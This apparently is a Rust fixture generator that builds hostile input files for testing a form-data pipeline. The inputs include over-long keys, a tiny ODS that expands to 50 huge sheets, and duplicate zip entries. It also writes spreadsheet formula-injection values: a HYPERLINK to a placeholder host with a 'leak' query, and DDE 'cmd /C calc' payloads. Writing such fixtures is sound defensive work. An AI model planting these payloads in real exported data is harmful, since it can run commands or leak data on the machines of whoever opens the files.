//! Writes `fixtures/hostile-round2/`: one or two files per class of hostile input found by the second
//! reliability round, each built from a fixture form so that a mapping recognises it and it reaches every stage
//! (reader, harmonise, drift, reports). Deterministic: a second run writes byte-identical files.
//!
//! - `long-key-*`: a source key (XML element name, PDF field name, content-control tag, sheet name) of 40,000
//!   characters, over Excel's 32,767-character cell limit, with an answer that differs between the two copies so
//!   that the drift section reports it;
//! - `many-sheets.ods`: a 1 KB OpenDocument spreadsheet whose 50 sheets each repeat one cell 990,000 times;
//! - `=formula-*.xml`, `+formula.xml`, `@formula.xml`: names and answers that a spreadsheet would run as formulas;
//! - `damaged-planted.xml`: a broken tag whose name is a planted value, which no reason may repeat;
//! - `duplicate-part.xlsx`: two zip entries both named `xl/worksheets/sheet1.xml`.
//!
//! Run with `cargo run --example gen_hostile_fixtures` (or `scripts/gen-fixtures.sh`).
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic,
    reason = "a fixture generator or measuring tool: a failure should stop it loudly, where the library must return an error"
)]

use std::io::{Cursor, Read, Write};
use std::path::Path;

/// Longer than Excel's 32,767-character limit on a cell's text.
const LONG: usize = 40_000;

fn main() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let forms = root.join("fixtures/forms");
    let dir = root.join("fixtures/hostile-round2");
    if dir.exists() {
        std::fs::remove_dir_all(&dir).expect("clear fixtures/hostile-round2");
    }
    std::fs::create_dir_all(&dir).expect("mkdir fixtures/hostile-round2");
    let read = |p: &str| std::fs::read(forms.join(p)).unwrap_or_else(|e| panic!("{p}: {e}"));
    let write = |name: &str, bytes: &[u8]| {
        std::fs::write(dir.join(name), bytes).unwrap_or_else(|e| panic!("{name}: {e}"))
    };

    for (i, src) in ["halden/filled-01.xml", "halden/filled-02.xml"]
        .iter()
        .enumerate()
    {
        write(
            &format!("long-key-{}.xml", i + 1),
            &long_xml_element(&read(src), i),
        );
    }
    for (i, src) in ["southport/filled-01.pdf", "southport/filled-02.pdf"]
        .iter()
        .enumerate()
    {
        write(
            &format!("long-key-{}.pdf", i + 1),
            &long_pdf_field(&read(src), i),
        );
    }
    for (i, src) in ["ashcombe/filled-01.docx", "ashcombe/filled-02.docx"]
        .iter()
        .enumerate()
    {
        write(
            &format!("long-key-{}.docx", i + 1),
            &long_control_tag(&read(src), i),
        );
    }
    for (i, src) in ["northmoor/filled-01.xlsx", "northmoor/filled-02.xlsx"]
        .iter()
        .enumerate()
    {
        write(
            &format!("long-key-{}.xlsx", i + 1),
            &long_sheet_name(&read(src)),
        );
    }
    write("many-sheets.ods", &many_sheet_ods(50, 990, 1000));

    let halden = read("halden/filled-01.xml");
    let formula = r#"=HYPERLINK("http://example.invalid/?leak","Amelia")"#;
    write(
        "=HYPERLINK(1)-formula-name.xml",
        &read("halden/filled-02.xml"),
    );
    write(
        "=formula-value.xml",
        &replace_element(&halden, "ChildFirstName", &xml_escape(formula)),
    );
    write(
        "+formula.xml",
        &replace_element(&halden, "ChildFirstName", "+1+cmd|' /C calc'!A0"),
    );
    write(
        "@formula.xml",
        &replace_element(&halden, "ChildFirstName", "@SUM(1+1)*cmd|' /C calc'!A0"),
    );
    write(
        "damaged-planted.xml",
        &replace_element(&halden, "ChildFirstName", "Zyxwvut <Qwertyplant "),
    );
    write(
        "duplicate-part.xlsx",
        &duplicate_part(&read("northmoor/filled-03.xlsx")),
    );
    println!("wrote fixtures/hostile-round2/");
}

/// The bytes as one char each, so that ASCII edits keep any encoding (a Halden file is windows-1252).
fn text(bytes: &[u8]) -> String {
    bytes.iter().map(|&b| char::from(b)).collect()
}

/// The inverse of [`text`].
fn bytes(s: &str) -> Vec<u8> {
    s.chars()
        .map(|c| u8::try_from(u32::from(c)).expect("a byte"))
        .collect()
}

fn xml_escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('"', "&quot;")
}

/// Replaces the text of the first `<name>...</name>`.
fn replace_element(xml: &[u8], name: &str, new: &str) -> Vec<u8> {
    let s = text(xml);
    let open = format!("<{name}>");
    let start = s.find(&open).unwrap_or_else(|| panic!("no <{name}>")) + open.len();
    let end = start + s[start..].find(&format!("</{name}>")).expect("closing tag");
    bytes(&format!("{}{new}{}", &s[..start], &s[end..]))
}

/// An element whose name is 40,000 characters long, before the root's end tag.
fn long_xml_element(xml: &[u8], i: usize) -> Vec<u8> {
    let s = text(xml);
    let name = "E".repeat(LONG);
    let at = s.rfind("</").expect("root end tag");
    bytes(&format!(
        "{}<{name}>answer {i}</{name}>{}",
        &s[..at],
        &s[at..]
    ))
}

/// A text field whose name is 40,000 characters long, added to the AcroForm.
fn long_pdf_field(pdf: &[u8], i: usize) -> Vec<u8> {
    use lopdf::{Dictionary, Document, Object, StringFormat};
    let mut doc = Document::load_mem(pdf).expect("fixture pdf");
    let mut field = Dictionary::new();
    field.set("FT", Object::Name(b"Tx".to_vec()));
    field.set(
        "T",
        Object::String("F".repeat(LONG).into_bytes(), StringFormat::Literal),
    );
    field.set(
        "V",
        Object::String(format!("answer {i}").into_bytes(), StringFormat::Literal),
    );
    let id = doc.add_object(field);
    let root = doc
        .trailer
        .get(b"Root")
        .and_then(Object::as_reference)
        .expect("catalog");
    let acro = match doc
        .get_object(root)
        .and_then(Object::as_dict)
        .and_then(|c| c.get(b"AcroForm"))
        .expect("AcroForm")
    {
        Object::Reference(r) => *r,
        _ => panic!("the fixture's AcroForm is an indirect object"),
    };
    let fields = doc
        .get_object_mut(acro)
        .and_then(Object::as_dict_mut)
        .and_then(|a| a.get_mut(b"Fields"))
        .and_then(Object::as_array_mut)
        .expect("AcroForm /Fields");
    fields.push(Object::Reference(id));
    let mut out = Vec::new();
    doc.save_to(&mut out).expect("save pdf");
    out
}

/// Every zip entry of `zip`, in order, with `edit` applied to each (name, bytes).
fn rezip(
    zip: &[u8],
    edit: impl Fn(&str, Vec<u8>) -> Vec<u8>,
    extra: &[(&str, Vec<u8>)],
) -> Vec<u8> {
    let mut archive = zip::ZipArchive::new(Cursor::new(zip)).expect("fixture zip");
    let mut out = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .last_modified_time(zip::DateTime::default());
    for i in 0..archive.len() {
        let mut entry = archive.by_index(i).expect("entry");
        let name = entry.name().expect("entry name").to_string();
        let mut bytes = Vec::new();
        entry.read_to_end(&mut bytes).expect("read entry");
        out.start_file(name.as_str(), opts).expect("start");
        out.write_all(&edit(&name, bytes)).expect("write");
    }
    for (name, bytes) in extra {
        out.start_file(*name, opts).expect("start");
        out.write_all(bytes).expect("write");
    }
    out.finish().expect("finish").into_inner()
}

/// A content control whose tag is 40,000 characters long, in the document's first paragraph.
fn long_control_tag(docx: &[u8], i: usize) -> Vec<u8> {
    let tag = "T".repeat(LONG);
    rezip(
        docx,
        |name, part| {
            if name != "word/document.xml" {
                return part;
            }
            let s = text(&part);
            let control = format!(
                "<w:p><w:sdt><w:sdtPr><w:tag w:val=\"{tag}\"/></w:sdtPr><w:sdtContent><w:r><w:t>answer {i}</w:t></w:r></w:sdtContent></w:sdt></w:p>"
            );
            bytes(&s.replacen("<w:body>", &format!("<w:body>{control}"), 1))
        },
        &[],
    )
}

/// A second sheet, named with 40,000 characters, showing the form's own worksheet part again (so its answers
/// differ between the two copies, as the form's do).
fn long_sheet_name(xlsx: &[u8]) -> Vec<u8> {
    let long = "S".repeat(LONG);
    rezip(
        xlsx,
        |name, part| {
            match name {
            "xl/workbook.xml" => bytes(&text(&part)
                .replacen(
                    "</sheets>",
                    &format!("<sheet name=\"{long}\" sheetId=\"99\" r:id=\"rIdLong\"/></sheets>"),
                    1,
                )),
            "xl/_rels/workbook.xml.rels" => bytes(&text(&part)
                .replacen(
                    "</Relationships>",
                    "<Relationship Id=\"rIdLong\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\" Target=\"worksheets/sheet1.xml\"/></Relationships>",
                    1,
                )),
            _ => part,
        }
        },
        &[],
    )
}

/// `sheets` tables of `rows` rows, each one cell repeated `cols` times: tiny on disk, huge when expanded.
fn many_sheet_ods(sheets: usize, rows: usize, cols: usize) -> Vec<u8> {
    let mut content = String::from(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" xmlns:table=\"urn:oasis:names:tc:opendocument:xmlns:table:1.0\" xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\" office:version=\"1.2\"><office:body><office:spreadsheet>",
    );
    for s in 1..=sheets {
        content.push_str(&format!(
            "<table:table table:name=\"Sheet{s}\"><table:table-row table:number-rows-repeated=\"{rows}\"><table:table-cell table:number-columns-repeated=\"{cols}\" office:value-type=\"string\"><text:p>x</text:p></table:table-cell></table:table-row></table:table>"
        ));
    }
    content.push_str("</office:spreadsheet></office:body></office:document-content>");
    let manifest = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<manifest:manifest xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\" manifest:version=\"1.2\"><manifest:file-entry manifest:full-path=\"/\" manifest:media-type=\"application/vnd.oasis.opendocument.spreadsheet\"/><manifest:file-entry manifest:full-path=\"content.xml\" manifest:media-type=\"text/xml\"/></manifest:manifest>";
    let mut out = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let stored = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Stored)
        .last_modified_time(zip::DateTime::default());
    let deflated = stored.compression_method(zip::CompressionMethod::Deflated);
    out.start_file("mimetype", stored).expect("start");
    out.write_all(b"application/vnd.oasis.opendocument.spreadsheet")
        .expect("write");
    out.start_file("META-INF/manifest.xml", deflated)
        .expect("start");
    out.write_all(manifest.as_bytes()).expect("write");
    out.start_file("content.xml", deflated).expect("start");
    out.write_all(content.as_bytes()).expect("write");
    out.finish().expect("finish").into_inner()
}

/// The workbook with a second, different `xl/worksheets/sheet1.xml` entry after the first. The zip crate's writer
/// refuses duplicate names, so the copy is written as `xl/worksheets/sheetX.xml` and renamed in place (same length;
/// names are outside the CRC).
fn duplicate_part(xlsx: &[u8]) -> Vec<u8> {
    let sheet = {
        let mut archive = zip::ZipArchive::new(Cursor::new(xlsx)).expect("fixture zip");
        let mut entry = archive.by_name("xl/worksheets/sheet1.xml").expect("sheet1");
        let mut bytes = Vec::new();
        entry.read_to_end(&mut bytes).expect("read");
        bytes
    };
    // The copy differs: its shared-string indices all point at string 0.
    let copy = bytes(&zero_shared_strings(&text(&sheet)));
    let mut bytes = rezip(xlsx, |_, b| b, &[("xl/worksheets/sheetX.xml", copy)]);
    let (from, to) = (b"xl/worksheets/sheetX.xml", b"xl/worksheets/sheet1.xml");
    let mut i = 0;
    let mut renamed = 0;
    while i + from.len() <= bytes.len() {
        if &bytes[i..i + from.len()] == from {
            bytes[i..i + from.len()].copy_from_slice(to);
            renamed += 1;
        }
        i += 1;
    }
    assert_eq!(renamed, 2, "local header and central directory");
    bytes
}

/// Every `<v>n</v>` of shared-string cells becomes `<v>0</v>`.
fn zero_shared_strings(sheet: &str) -> String {
    let mut out = String::with_capacity(sheet.len());
    let mut rest = sheet;
    while let Some(at) = rest.find("t=\"s\"") {
        let Some(v) = rest[at..].find("<v>") else {
            break;
        };
        let Some(end) = rest[at + v..].find("</v>") else {
            break;
        };
        out.push_str(&rest[..at + v + 3]);
        out.push('0');
        rest = &rest[at + v + end..];
    }
    out.push_str(rest);
    out
}
